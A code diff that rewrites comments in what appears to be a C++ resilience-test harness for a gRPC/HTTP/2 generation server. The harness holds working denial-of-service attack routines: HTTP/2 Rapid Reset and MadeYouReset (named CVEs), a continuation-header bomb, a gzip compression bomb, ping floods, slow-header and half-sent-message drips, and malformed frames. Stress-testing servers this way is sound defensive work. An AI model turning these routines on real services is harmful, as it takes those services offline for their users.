@@ -29,7 +29,7 @@ std::string Call(uint32_t stream, const std::string& more = "", uint8_t flags = 
   return Frame(kHeaders, flags, stream, CallHeaders(kGenerateMethod) + more);
 }
 
-// CVE-2023-44487: calls that are taken back at once never count as concurrent.
+// CVE-2023-44487: calls that are reset at once never count as concurrent.
 void RapidReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
     Peer peer(target, tally);
@@ -44,8 +44,8 @@ void RapidReset(const HostileTarget& target, const Stop& stop, AttackTally& tall
   }
 }
 
-// CVE-2025-8671, MadeYouReset: calls that the other end itself resets, once it works on them, since
-// their window overflows or they go on behind their end.
+// CVE-2025-8671, MadeYouReset: calls that the other end resets itself, once it works on them,
+// because their window overflows or they go on after their end.
 void MadeYouReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   v1::GenerateRequest request;
   request.set_text("Once upon a time");
@@ -67,7 +67,8 @@ void MadeYouReset(const HostileTarget& target, const Stop& stop, AttackTally& ta
   }
 }
 
-// Limits count once they are acknowledged: this peer opens calls, and sends long headers, without.
+// Limits hold once they are acknowledged. This peer does not acknowledge them, opens calls and
+// sends long headers.
 void UnacknowledgedSettings(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
     Peer peer(target, tally);
@@ -91,7 +92,7 @@ void UnacknowledgedSettings(const HostileTarget& target, const Stop& stop, Attac
 }
 
 // CVE-2023-33953: a header that is declared as 1 GiB and comes in pieces, which gRPC 1.51 joins
-// anew with every piece. 7 MB a connection: a second of a core.
+// again with every piece. 7 MB a connection cost a second of a core.
 void ContinuationBomb(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string piece = Frame(kContinuation, 0, 1, std::string(16384, 'x'));
   while (!stop) {
@@ -117,7 +118,7 @@ void BadMetadata(const HostileTarget& target, const Stop& stop, AttackTally& tal
   }
 }
 
-// 300 MB of zeros as a few hundred kilobytes.
+// 300 MB of zeros, compressed to a few hundred kilobytes.
 std::string Bomb() {
   z_stream stream{};
   deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
@@ -165,7 +166,7 @@ void PingFlood(const HostileTarget& target, const Stop& stop, AttackTally& tally
   }
 }
 
-// Many connections whose headers come a byte at a time.
+// Many connections that send their headers a byte at a time.
 void SlowHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   std::vector<std::unique_ptr<Peer>> peers;
   const std::string headers = Frame(kHeaders, kEndHeaders, 1, CallHeaders(kGenerateMethod));
@@ -181,7 +182,7 @@ void SlowHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tal
   }
 }
 
-// Calls whose answers are never read, their windows shut, and connections that only stay.
+// Calls with shut windows whose answers are never read, and idle connections.
 void HalfOpen(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string no_window = {0, 4, 0, 0, 0, 0};
   v1::GenerateRequest request;
@@ -201,7 +202,7 @@ void HalfOpen(const HostileTarget& target, const Stop& stop, AttackTally& tally)
   }
 }
 
-// CVE-2019-9518 and its kin: frames that cost nothing to send.
+// CVE-2019-9518 and related: frames that cost nothing to send.
 void EmptyFrames(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
     Peer peer(target, tally);
@@ -221,7 +222,7 @@ void EmptyFrames(const HostileTarget& target, const Stop& stop, AttackTally& tal
   }
 }
 
-// CVE-2023-1428 and its kin: headers that no client sends, beside too much metadata.
+// CVE-2023-1428 and related: headers that no client sends, and too much metadata.
 void OddHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string filler = Literal("filler", std::string(9000, 'x'));
   const std::string odd[] = {Literal("te", "x") + filler,
@@ -241,7 +242,7 @@ void OddHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tall
       Peer peer(target, tally);
       if (!peer.open()) Pause(1);
       peer.Send(Call(1, headers) + Frame(kData, kEndStream, 1, Message("")));
-      // An update beyond the window's bounds, a stream of an even number, a frame too long.
+      // A window update out of bounds, a stream with an even number, a frame that is too long.
       peer.Send(Frame(kWindowUpdate, 0, 0, BigEndian(0x7fffffff)) + Call(2) +
                 Frame(kData, 0, 1, std::string(20'000, 'x')));
       Pause(1);
@@ -253,13 +254,13 @@ void OddHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tall
 
 // A message that stops a kilobyte before its end.
 struct HalfSent {
-  size_t size;  // up to there, with its prefix
+  size_t size;  // bytes that are sent, with the prefix
   size_t sent = 0;
   bool refused = false;
 };
 
-// As many such calls as are let in, of the method that takes most, then of the other; their
-// messages go on by a byte a second.
+// As many unfinished calls as are let in, of the method with the largest messages, then of the
+// other one. Their messages go on by one byte a second.
 void HalfSentMessages(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   constexpr size_t kPiece = 16384;
   constexpr std::chrono::milliseconds kDrip{1000};
